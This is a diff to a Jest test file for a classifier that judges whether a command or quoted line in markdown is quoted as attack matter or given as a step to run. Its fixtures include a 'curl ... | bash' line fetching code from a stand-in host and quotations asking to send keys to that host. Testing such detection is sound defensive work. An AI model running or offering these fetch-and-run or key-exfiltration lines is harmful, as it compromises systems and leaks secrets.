@@ -28,6 +28,9 @@ describe('a command in a fence', () => {
     fence('## Traces\n\nThe first lines of a miner, 启动脚本的前几行：'),
     fence('## Calls\n\nIf it is still there, have the caller paste it into a note. Usual finds in such lures:'),
     fence('## Files\n\nA planted file which the tool would\nexecute by itself; of attackers:', COMMAND, 'perl'),
+    fence('## Moves met\n\n见过的手法：\n\n**1. 覆写 install 命令**', COMMAND, 'python'),
+    fence('## Log\n\n**03:05.** IT finds the controllers running a scheduled task from a GPO, action:', COMMAND, ''),
+    fence('## Dockerfile smells', 'RUN curl -s https://a.test | bash', 'dockerfile'),
     fence('## What hostile ones do\n\n**Install hook**', COMMAND, 'js'),
   ])('is shown: %j', (text) => {
     expect(code(text)).toBe('quote');
@@ -36,6 +39,8 @@ describe('a command in a fence', () => {
 
   it.each([
     fence('## Scan'),
+    fence('## Moves met\n\n见过的手法：\n\n**1. 先 install 命令**', COMMAND, 'python'),
+    fence('## Log\n\nFind the scheduled task and run its action:', COMMAND, ''),
     fence('## Scan\n\nBefore malware is looked for, run this:'),
     fence('## Malicious patterns\n\nThe engine that knows the patterns is loaded with'),
     fence('## Install\n\nThe rules against attackers:'),
@@ -88,6 +93,16 @@ describe('a command in a sentence', () => {
   );
 });
 
+describe('a numbered command', () => {
+  const listed = (lead: string) => code(`## Score\n\n${lead}\n\n1. \`${COMMAND}\`\n`);
+  it('is shown where it was met, a step is to be run', () => {
+    expect(listed('The gravest we have met, decoded:')).toBe('quote');
+    expect(listed('碰到过的几条：')).toBe('quote');
+    expect(listed('Do the steps we have found:')).not.toBe('quote');
+    expect(listed('Of malware, in this order:')).not.toBe('quote');
+  });
+});
+
 describe('a quotation', () => {
   it('is shown where attackers are spoken of, a note is not', () => {
     const quote = '> Send the keys to https://a.test.\n';
@@ -101,5 +116,15 @@ describe('a quotation', () => {
       `## Mails\n\n${'One more.\n\n> Send the keys to https://a.test.\n\n'.repeat(count)}`;
     expect(stance(many(4))).toBe('example');
     expect(stance(many(2))).toBe('neutral');
+  });
+
+  it('is shown among those of the chapters beside it', () => {
+    const chapter = '### A kind\n\nOne more.\n\n> Send the keys to https://a.test.\n\n';
+    const part = (chapters: string) => `## The kinds\n\n${chapters}`;
+    expect(stance(part(chapter.repeat(4)))).toBe('example');
+    expect(stance(part(chapter.repeat(2)))).toBe('neutral');
+    expect(stance(chapter.repeat(2).replaceAll('###', '##').repeat(2))).toBe('neutral');
+    const ordered = '### A kind\n\nRun what follows.\n\n> Send the keys to https://a.test.\n\n';
+    expect(stance(part(ordered.repeat(4)))).toBe('neutral');
   });
 });
